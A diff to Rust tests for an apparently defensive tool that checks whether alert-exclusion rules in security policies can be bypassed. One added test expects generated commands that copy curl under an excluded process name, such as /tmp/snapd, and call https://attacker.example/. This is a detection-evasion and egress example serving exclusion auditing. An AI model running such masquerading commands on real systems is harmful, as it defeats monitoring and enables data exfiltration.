@@ -99,14 +99,57 @@ fn every_ride_is_hidden_by_the_reference_evaluator() {
     for policy in hunts.into_iter().chain([windows_rule()]) {
         for strength in &strengths(&policy, now(), &Known::default()).unwrap().all {
             let Outcome::Ridden(ride) = &strength.outcome else { continue };
-            ridden += 1;
-            assert!(!ride.command.is_empty());
-            let verdict = verdict(&policy, &ride.event, now());
-            let hides = matches!(&verdict, lownoise_engine::evaluate::Verdict::Hidden(by) if by.contains(&strength.exclusion));
-            assert!(hides, "{}: {verdict:?}", ride.command);
+            for (event, command) in ride.each() {
+                ridden += 1;
+                assert!(!command.is_empty());
+                let verdict = verdict(&policy, event, now());
+                let hides = matches!(&verdict, lownoise_engine::evaluate::Verdict::Hidden(by) if by.contains(&strength.exclusion));
+                assert!(hides, "{command}: {verdict:?}");
+            }
         }
     }
     assert!(ridden > 20, "only {ridden}");
+}
+
+#[test]
+fn every_entry_of_a_list_has_its_event_and_its_command() {
+    let text = r#"
+        [policy]
+        id    = "egress"
+        title = "Egress"
+        table = "DeviceNetworkEvents"
+        owner = "soc"
+        platform = "linux"
+        [[exclusion]]
+        id     = "names"
+        reason = "x"
+        where  = { InitiatingProcessFileName = ["sensecm", "snapd", "fwupdmgr"] }
+        [[exclusion]]
+        id     = "paths"
+        reason = "x"
+        where  = { InitiatingProcessFolderPath = ["/tmp/a/one", "/opt/two", "/home/anna/three"] }
+    "#;
+    let source = Source { name: "egress.toml".to_owned(), text: text.to_owned() };
+    let parsed = parse_policy(source, &mut |_| Err("no sets".to_owned()), &Schemas::shipped().unwrap());
+    let policy = parsed.result.unwrap();
+    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
+    let commands: Vec<Vec<&str>> = strengths
+        .all
+        .iter()
+        .map(|strength| match &strength.outcome {
+            Outcome::Ridden(ride) => ride.each().map(|(_, command)| command).collect(),
+            outcome => panic!("{outcome:?}"),
+        })
+        .collect();
+    let copied = |path: &str| format!("cp /usr/bin/curl {path} && {path} https://attacker.example/");
+    let names = ["/tmp/fwupdmgr", "/tmp/sensecm", "/tmp/snapd"].map(copied);
+    assert_eq!(commands[0], names);
+    // Nobody but root can put a file below /opt.
+    let paths = ["/tmp/a/one", "/home/anna/three"];
+    assert_eq!(commands[1].len(), paths.len(), "{:?}", commands[1]);
+    for (command, path) in commands[1].iter().zip(paths) {
+        assert!(command.contains(&copied(path)), "{command}");
+    }
 }
 
 /// A rule of Sigma as its import is: what its filters hide.
